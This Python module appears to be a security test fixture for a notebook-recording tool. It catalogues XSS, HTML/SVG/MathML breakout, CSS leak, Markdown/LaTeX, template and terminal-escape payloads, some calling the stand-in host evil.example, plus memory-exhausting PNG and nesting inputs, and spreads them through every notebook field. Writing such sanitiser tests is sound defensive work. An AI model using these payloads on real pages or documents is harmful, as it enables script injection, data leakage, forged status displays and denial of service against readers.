"""Payloads for outputs, texts and code that try to run something where the recording is read.

A payload that works sets `window.pwned`, requests something from https://evil.example, or navigates there.
"""

from __future__ import annotations

import base64
import struct
import zlib
from typing import TYPE_CHECKING, Final

from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

if TYPE_CHECKING:
    from collections.abc import Collection

    from nbformat import NotebookNode

RUN: Final = "window.pwned=1"
EVIL: Final = "https://evil.example"


def data_url(text: str, kind: str = "text/html") -> str:
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


def huge_png(width: int, height: int) -> str:
    """Return a PNG of a few bytes, in base64, that fills the memory of any program that decodes it."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    content = b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    return base64.b64encode(content).decode()


SVG: Final = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

SCRIPTS: Final = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT>",
    "script from elsewhere": f'<script src="{EVIL}/x.js"></script>',
    "script as a module": f'<script type="module">{RUN}</script>',
    "script in a data URL": f'<script src="data:text/javascript,{RUN}"></script>',
    "script that is not closed": f"<script>{RUN}//",
    "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script after a null": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "script behind a slash": f"<script/x>{RUN}</script>",
    "script out of a title": f"</title></style></textarea></pre><script>{RUN}</script>",
    "script out of a comment": f"<!--><script>{RUN}</script>-->",
    "script out of CDATA": f"<![CDATA[<script>{RUN}</script>]]>",
    "script in an import map": f'<script type="importmap">{{"imports":{{"x":"{EVIL}/x.js"}}}}</script>',
    "template": f"<template><script>{RUN}</script></template><div><script>{RUN}</script></div>",
    "declarative shadow root": f'<div><template shadowrootmode="open"><img src=x onerror="{RUN}"></template></div>',
}
HANDLERS: Final = {
    "onerror": f'<img src=x onerror="{RUN}">',
    "onerror without quotes": f"<img src=x onerror={RUN}>",
    "onerror between slashes": f"<img/src=x/onerror={RUN}/>",
    "onerror in capitals": f'<IMG SRC=x OnErRoR="{RUN}">',
    "onload of a body": f'<body onload="{RUN}">',
    "onload of a frame": f'<iframe onload="{RUN}"></iframe>',
    "onload of SVG": f'<svg onload="{RUN}"></svg>',
    "onfocus": f'<input autofocus onfocus="{RUN}">',
    "onfocus by tabindex": f'<div tabindex=0 autofocus onfocus="{RUN}">x</div>',
    "onmouseover": f'<b onmouseover="{RUN}">x</b>',
    "onclick": f'<p onclick="{RUN}">x</p>',
    "ontoggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "onanimationstart": f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{RUN}">x</p>',
    "onpointerrawupdate": f'<p onpointerover="{RUN}" onpointerrawupdate="{RUN}">x</p>',
    "onbeforematch": f'<div hidden="until-found" onbeforematch="{RUN}">x</div>',
    "onerror of a video": f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}"></audio>',
    "onstart of a marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "attribute out of an attribute": f"<a title='\"><img src=x onerror={RUN}>'>x</a>",
    "backquotes": f"<img src=`x` onerror=`{RUN}`><a title=`x onclick={RUN}`>x</a>",
}
URLS: Final = {
    "link with a script": f'<a href="javascript:{RUN}">x</a>',
    "link with a tab": f'<a href="java\tscript:{RUN}">x</a>',
    "link with entities": f'<a href="&#106;avascript&colon;{RUN}">x</a>',
    "link with a control": f'<a href="\x01javascript:{RUN}">x</a>',
    "link to a data URL": f'<a href="{data_url(f"<script>{RUN}</script>")}">x</a>',
    "link to VBScript": '<a href="vbscript:msgbox(1)">x</a>',
    "link that pings": f'<a href="#x" ping="{EVIL}/ping">x</a>',
    "picture of a script": f'<img src="javascript:{RUN}">',
    "picture from elsewhere": f'<img src="{EVIL}/x.png" srcset="{EVIL}/y.png 2x">',
    "picture of HTML": f'<img src="{data_url(f"<script>{RUN}</script>")}">',
    "frame": f'<iframe src="{EVIL}"></iframe>',
    "frame with a document": f'<iframe srcdoc="<script>parent.{RUN.replace("window.", "")}</script>"></iframe>',
    "frame with a script": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "object": f'<object data="{data_url(f"<script>{RUN}</script>")}"></object>',
    "embed": f'<embed src="{data_url(f"<svg {SVG}><script>{RUN}</script></svg>", "image/svg+xml")}">',
    "form": f'<form action="javascript:{RUN}"><button id=b>x</button></form>',
    "button of a form": f'<form id=f></form><button form=f formaction="javascript:{RUN}">x</button>',
    "base": f'<base href="{EVIL}/"><img src="x.png"><a href="#x">x</a>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "link element": f'<link rel="stylesheet" href="{EVIL}/x.css"><link rel="prefetch" href="{EVIL}/y">',
    "video from elsewhere": f'<video src="{EVIL}/x.mp4" poster="{EVIL}/x.png" autoplay></video>',
    "table with a background": f'<table background="{EVIL}/x.png"><tr><td>x</td></tr></table>',
}
DRAWINGS: Final = {
    "SVG with a script": f"<svg {SVG}><script>{RUN}</script></svg>",
    "SVG with a handler": f'<svg {SVG} onload="{RUN}"><rect width="9" height="9" onclick="{RUN}"/></svg>',
    "SVG with a link": f'<svg {SVG}><a xlink:href="javascript:{RUN}"><text y="9">x</text></a></svg>',
    "SVG with HTML": f'<svg {SVG}><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" '
    f'src="x" onerror="{RUN}"/></foreignObject></svg>',
    "SVG with a picture from elsewhere": f'<svg {SVG}><image href="{EVIL}/x.png" width="9" height="9"/></svg>',
    "SVG that uses another": f'<svg {SVG}><use href="{EVIL}/x.svg#x"/></svg>',
    "SVG that animates a link": f'<svg {SVG}><a><animate attributeName="href" values="javascript:{RUN}"/>'
    '<text y="9">x</text></a></svg>',
    "SVG with a style from elsewhere": f"<svg {SVG}><style>@import url({EVIL}/x.css);</style></svg>",
    "SVG with an entity": f'<!DOCTYPE svg [<!ENTITY x "{"x" * 50}"><!ENTITY y "{"&x;" * 50}">]>'
    f"<svg {SVG}><text>&y;</text></svg>",
    "SVG that repeats itself": f'<svg {SVG}><g id="a"><use href="#b"/><use href="#b"/></g>'
    '<g id="b"><use href="#a"/><use href="#a"/></g></svg>',
    "SVG out of which HTML breaks": f"<svg><p><style><a title='</style><img src=x onerror={RUN}>'></style></p></svg>",
    "MathML out of which HTML breaks": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "noscript out of which HTML breaks": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "form out of which HTML breaks": "<form><math><mtext></form><form><mglyph><style></math>"
    f"<img src=x onerror={RUN}></style></mglyph></form>",
}
STYLES: Final = {
    "style that loads": f"<style>@import '{EVIL}/x.css'; body{{background:url({EVIL}/x.png)}}</style>",
    "style that hides the summary": "<style>.run-summary{display:none!important}</style>",
    "attribute that covers the page": '<div style="position:fixed;inset:0;background:#fff;z-index:9">All is well</div>',
    "attribute that loads": f'<p style="background-image:url({EVIL}/x.png)">x</p>',
    "attribute with an escape": f'<p style="background:\\75rl({EVIL}/x.png);color:red;content:url({EVIL}/y)">x</p>',
    "style that reads": f"<style>a[href^='#cell']{{background:url({EVIL}/leak)}}</style>",
    "a badge that is forged": '<span class="run-badge status-ok">9 ok</span><section class="cell-code" id="cell-0">x',
}
MARKDOWN: Final = {
    "Markdown link with a script": f"[x](javascript:{RUN})",
    "Markdown link with entities": f"[x](&#106;avascript:{RUN})",
    "Markdown link by reference": f"[x][r]\n\n[r]: javascript:{RUN}",
    "Markdown link to a data URL": f"[x]({data_url(f'<script>{RUN}</script>')})",
    "Markdown autolink": f"<javascript:{RUN}>",
    "Markdown picture from elsewhere": f"![x]({EVIL}/x.png)",
    "Markdown picture with a quote": f'![x"onerror="{RUN}](x"onerror="{RUN})',
    "Markdown title with a quote": f"[x](https://example.org '\" onclick=\"{RUN}')",
    "Markdown fence with a language": f'```"><img src=x onerror={RUN}>\nx\n```',
    "Markdown fence of Mermaid": f"```mermaid\n</pre><img src=x onerror={RUN}>\n```",
    "Markdown fence that is closed": f"```\n```\n<img src=x onerror={RUN}>\n```",
    "Markdown attachment": f"![x](attachment:none.png) <img src=x onerror={RUN}>",
    "Markdown heading": f'# x <img src=x onerror="{RUN}"> {{#id onclick="{RUN}"}}',
    "Markdown table": f"|a|\n|-|\n|<img src=x onerror={RUN}>|",
    "LaTeX with HTML": f"$$x<img src=x onerror={RUN}>$$ \\begin{{x}}<script>{RUN}</script>\\end{{x}}",
    "LaTeX link": f"$\\href{{javascript:{RUN}}}{{x}} \\unicode{{<img src=x onerror={RUN}>}}$",
    "LaTeX that never ends": "$" + "{" * 2000 + "\\def\\x{\\x\\x}\\x$",
    "a template": "{{ self.__init__.__globals__ }}{% raw %}{{ 7*7 }}<script>window.pwned=1</script>",
    "terminal codes": f'\x1b[38;2;1;2;3"><script>{RUN}</script>m\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07\x1b[99999m',
}
SIZES: Final = {
    "a picture of 3.6 gigapixels": f'<img src="data:image/png;base64,{huge_png(60_000, 60_000)}">',
    "a picture of a mile": f'<img width="999999" height="999999" src="data:image/png;base64,{huge_png(10, 19_000)}">',
    "a drawing of a mile": f'<svg {SVG} width="99999999" height="99999999"><rect width="100%" height="100%"/></svg>',
    "a table of a mile": '<table width="9999999"><tr><td colspan="9999999" style="width:999999px">x</td></tr></table>',
    "a word of a mile": "x" * 20_000,
    "ten thousand elements deep": "<div>" * 10_000 + f"<img src=x onerror={RUN}>",
}
GROUPS: Final = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "URLs": URLS,
    "drawings": DRAWINGS,
    "styles": STYLES,
    "Markdown and LaTeX": MARKDOWN,
    "sizes": SIZES,
}
PAYLOADS: Final = {name: payload for group in GROUPS.values() for name, payload in group.items()}

#: Payloads that navigate away, by themselves or after a click; no policy of a page can prevent it.
LEADS_AWAY: Final = {"refresh"}


def everywhere(payloads: Collection[str]) -> NotebookNode:
    """Return a notebook with payloads in every place that it has."""
    payload = " ".join(payloads)[:20_000]
    environment = {"python": payload[:4000], "platform": payload[:4000], "packages": {}, "local": []}
    ours = {"started": payload, "recorded_by": payload, "server": payload}
    metadata = {
        "kernelspec": {"name": "python3", "display_name": payload},
        "language_info": {"name": payload, "pygments_lexer": payload},
        "title": payload,
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {payload: payload}}},
        "nbtape": {**ours, "environment": {**environment, "directory": payload[:4000], "utc_offset": 0}},
    }
    cells = [cell for each in payloads for cell in cells_of(each)]
    notebook: NotebookNode = new_notebook(cells=cells, metadata=metadata)
    return notebook


def cells_of(payload: str) -> list[NotebookNode]:
    """Return cells with a payload in every place that they have."""
    data: list[dict[str, object]] = [
        {kind: payload} for kind in ("text/html", "image/svg+xml", "text/markdown", "text/latex", "text/plain")
    ]
    data += [{"application/json": {payload: [payload]}}, {"image/png": payload}, {"application/javascript": payload}]
    data += [{"image/svg+xml": payload, "text/html": payload, "text/plain": payload}, {payload: payload}]
    outputs = [new_output("display_data", each, metadata={"text/html": {"isolated": True}}) for each in data]
    outputs += [new_output("stream", name=name, text=payload) for name in ("stdout", "stderr")]
    outputs += [new_output("error", ename=payload, evalue=payload, traceback=lines) for lines in ([payload], [])]
    ours = {"status": "error", "note": payload, "extracted": [{"path": payload}], "kernel_epoch": payload}
    times = {"iopub.execute_input": payload, "shell.execute_reply": payload}
    tags = [payload.replace(",", ";")]
    return [
        new_markdown_cell(payload, attachments={"x.png": {"image/png": payload, "text/html": payload}}),
        new_raw_cell(payload, metadata={"raw_mimetype": "text/html"}),
        new_code_cell(payload, outputs=outputs, metadata={"nbtape": ours, "execution": times, "tags": tags}),
    ]
